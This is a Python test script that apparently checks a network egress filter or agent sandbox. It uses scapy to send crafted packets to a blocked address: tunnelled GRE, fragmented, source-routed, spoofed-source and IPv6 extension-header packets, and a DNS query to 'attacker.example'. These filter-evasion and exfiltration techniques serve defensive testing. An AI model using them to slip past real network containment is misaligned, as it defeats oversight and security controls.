"""Packets and frames of scapy's own, each by itself: one that is refused must not keep the next from being tried."""

import os
import socket
import sys

os.environ.setdefault("HOME", "/tmp")
from scapy.all import (  # noqa: E402
    IP, TCP, UDP, ICMP, IPv6, Dot1Q, DNS, DNSQR, Ether, IPOption_LSRR, IPv6ExtHdrRouting, IPv6ExtHdrDestOpt, GRE, Raw,
    L3RawSocket, conf, fragment, send, sendp,
)

conf.verb = 0
bad4, bad6, good4, good6, gateway = sys.argv[1:]


def attempt(name, work):
    try:
        work()
        print("sent", name)
    except BaseException as error:
        print("failed", name, error)


def gateway_frame():
    """The frame's destination: whoever has the gateway's address, by the kernel's own table."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"find the neighbour", (gateway, 9))
    for line in open("/proc/net/arp"):
        if line.split()[0] == gateway:
            return line.split()[3]
    return "ff:ff:ff:ff:ff:ff"


def layer3():
    attempt("udp", lambda: send(IP(dst=bad4) / UDP(dport=443) / Raw(b"sc-udp")))
    attempt("icmp", lambda: send(IP(dst=bad4) / ICMP() / Raw(b"sc-icmp")))
    attempt("syn", lambda: send(IP(dst=bad4) / TCP(dport=443, flags="S") / Raw(b"sc-syn")))
    attempt("gre", lambda: send(IP(dst=bad4) / GRE() / IP(dst=bad4) / ICMP() / Raw(b"sc-gre")))
    attempt("dns", lambda: send(IP(dst=bad4) / UDP() / DNS(qd=DNSQR(qname="sc-dns.attacker.example"))))
    attempt("fragments", lambda: [send(part) for part in fragment(IP(dst=bad4) / UDP() / Raw(b"sc-part" * 20), 64)])
    attempt("source route", lambda: send(IP(dst=good4, options=IPOption_LSRR(routers=[bad4])) / UDP() / Raw(b"sc-lsrr")))
    attempt("six", lambda: send(IPv6(dst=bad6) / UDP(dport=443) / Raw(b"sc-six")))
    routed = IPv6(dst=bad6) / IPv6ExtHdrRouting(type=4, addresses=[good6]) / UDP() / Raw(b"sc-routed")
    attempt("routing header", lambda: send(routed))
    attempt("options", lambda: send(IPv6(dst=bad6) / IPv6ExtHdrDestOpt() / UDP() / Raw(b"sc-option")))


layer3()


def layer2():
    frame = Ether(dst=gateway_frame())
    sendp(frame / IP(dst=bad4) / UDP(dport=443) / Raw(b"sc-frame"), iface="agent0")
    sendp(frame / IP(src="198.51.100.7", dst=bad4) / UDP(dport=443) / Raw(b"sc-spoofed"), iface="agent0")
    sendp(frame / IPv6(dst=bad6) / UDP(dport=443) / Raw(b"sc-frame6"), iface="agent0")


attempt("frames", layer2)
conf.L3socket = L3RawSocket
attempt("raw socket", lambda: send(IP(dst=bad4) / UDP(dport=443) / Raw(b"sc-rawsock")))
